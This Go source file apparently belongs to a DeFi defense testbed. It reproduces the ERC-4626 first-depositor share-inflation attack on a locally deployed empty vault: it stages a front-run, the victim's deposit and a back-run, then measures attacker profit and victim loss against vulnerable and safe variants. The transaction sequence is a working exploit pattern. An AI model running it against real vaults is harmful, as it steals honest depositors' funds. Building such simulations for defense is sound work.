package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/core/types"

	"github.com/aegis-defi/aegis/internal/chain"
)

// VaultInflation re-creates the first-depositor share-inflation attack on an
// empty ERC-4626 market (Hundred Finance 2023, Raft 2023).
//
// Setup deploys WETH9 and an empty VulnerableVault or SafeVault, has the
// victim (Users[0]) wrap and approve its 50 WETH deposit, and deploys
// VaultInflationAttacker from the attacker's EOA. The exploit is the
// sandwich around the victim's pending deposit: [attacker frontRun (deposit
// 1 wei + donate the victim's amount), the victim's own signed deposit,
// attacker backRun (redeem and unwrap)]. The victim's transaction is part of
// the sequence because the attack only works when it lands between the two.
//
// AttackerProfit is the attacker EOA's ETH+WETH change plus the gas fees of
// its exploit transactions (from receipts). ProtocolLoss is what the vault
// took from its honest depositor: the victim's ETH+WETH decrease (fees added
// back) minus the current redeemable value of the victim's shares. The vault
// starts empty, so its own balance change says nothing.
type VaultInflation struct{}

// vaultVictimDeposit is the honest deposit the attacker front-runs.
func vaultVictimDeposit() *big.Int { return chain.Ether(50) }

// Info implements Scenario.
func (VaultInflation) Info() Info {
	return Info{
		Name:     "vault-inflation",
		Class:    "ERC-4626 donation / share inflation",
		Incident: "Hundred Finance 2023 / Raft 2023",
		Summary:  "The attacker front-runs the first honest deposit into an empty WETH vault: it mints 1 share for 1 wei, donates WETH so the victim's deposit rounds to 0 shares, then redeems the whole vault.",
	}
}

// Setup implements Scenario.
func (VaultInflation) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	if err := requireUsers(env, 1); err != nil {
		return nil, err
	}
	c := env.Client
	weth, err := deployWETH(ctx, c, env.Deployer)
	if err != nil {
		return nil, err
	}
	name := "VulnerableVault"
	if v == Safe {
		name = "SafeVault"
	}
	vault, err := deployNamed(ctx, c, env.Deployer, name, weth.Address, env.Guardian.Address)
	if err != nil {
		return nil, err
	}
	victim := env.Users[0]
	if err := wrapAndApprove(ctx, weth, []chain.Account{victim}, vaultVictimDeposit(), vault.Address); err != nil {
		return nil, fmt.Errorf("victim prepares deposit: %w", err)
	}
	attacker, err := deployNamed(ctx, c, env.Attacker, "VaultInflationAttacker", weth.Address, vault.Address)
	if err != nil {
		return nil, err
	}
	s := &inflationStaged{
		client: c, attackerEOA: env.Attacker, victim: victim,
		weth: weth, vault: vault, vaultName: name, attacker: attacker,
	}
	if s.profit, err = newProfitMeter(ctx, c, weth, env.Attacker.Address); err != nil {
		return nil, err
	}
	if s.victimStart, err = holdings(ctx, c, weth, victim.Address); err != nil {
		return nil, err
	}
	return s, nil
}

type inflationStaged struct {
	client      *chain.Client
	attackerEOA chain.Account
	victim      chain.Account
	weth        *chain.Contract
	vault       *chain.Contract
	vaultName   string
	attacker    *chain.Contract
	profit      *profitMeter
	victimStart *big.Int
	txs         []*types.Transaction
}

// Targets implements Staged.
func (s *inflationStaged) Targets() []Target {
	return []Target{{Name: s.vaultName, Address: s.vault.Address, Pausable: true}}
}

// Exploit implements Staged. The second transaction is the victim's own
// deposit, signed with the victim's key: it stands for the pending
// transaction the attacker saw in the mempool.
func (s *inflationStaged) Exploit(ctx context.Context) ([]*types.Transaction, error) {
	amount := vaultVictimDeposit()
	value := new(big.Int).Add(amount, big.NewInt(1))
	front, err := buildCall(ctx, s.client, s.attackerEOA, s.attacker, value, "frontRun", amount)
	if err != nil {
		return nil, fmt.Errorf("vault inflation front-run: %w", err)
	}
	victimTx, err := buildCall(ctx, s.client, s.victim, s.vault, nil, "deposit", amount, s.victim.Address)
	if err != nil {
		return nil, fmt.Errorf("vault inflation victim deposit: %w", err)
	}
	back, err := buildCall(ctx, s.client, s.attackerEOA, s.attacker, nil, "backRun")
	if err != nil {
		return nil, fmt.Errorf("vault inflation back-run: %w", err)
	}
	s.txs = []*types.Transaction{front, victimTx, back}
	return s.txs, nil
}

// Outcome implements Staged.
func (s *inflationStaged) Outcome(ctx context.Context) (Outcome, error) {
	p, err := s.profit.profit(ctx, s.txs)
	if err != nil {
		return Outcome{}, fmt.Errorf("vault inflation profit: %w", err)
	}
	worth, err := s.victimShareValue(ctx)
	if err != nil {
		return Outcome{}, err
	}
	now, err := holdings(ctx, s.client, s.weth, s.victim.Address)
	if err != nil {
		return Outcome{}, fmt.Errorf("victim holdings: %w", err)
	}
	fees, err := feesPaid(ctx, s.client, s.txs, s.victim.Address)
	if err != nil {
		return Outcome{}, fmt.Errorf("victim fees: %w", err)
	}
	// loss = start - (now + fees + share value)
	l := new(big.Int).Sub(s.victimStart, now)
	l.Sub(l, fees)
	l.Sub(l, worth)
	return Outcome{AttackerProfit: p, ProtocolLoss: l}, nil
}

// victimShareValue is what the victim's shares redeem for now.
func (s *inflationStaged) victimShareValue(ctx context.Context) (*big.Int, error) {
	shares, err := s.vault.CallBig(ctx, "balanceOf", s.victim.Address)
	if err != nil {
		return nil, fmt.Errorf("victim shares: %w", err)
	}
	worth, err := s.vault.CallBig(ctx, "previewRedeem", shares)
	if err != nil {
		return nil, fmt.Errorf("victim share value: %w", err)
	}
	return worth, nil
}
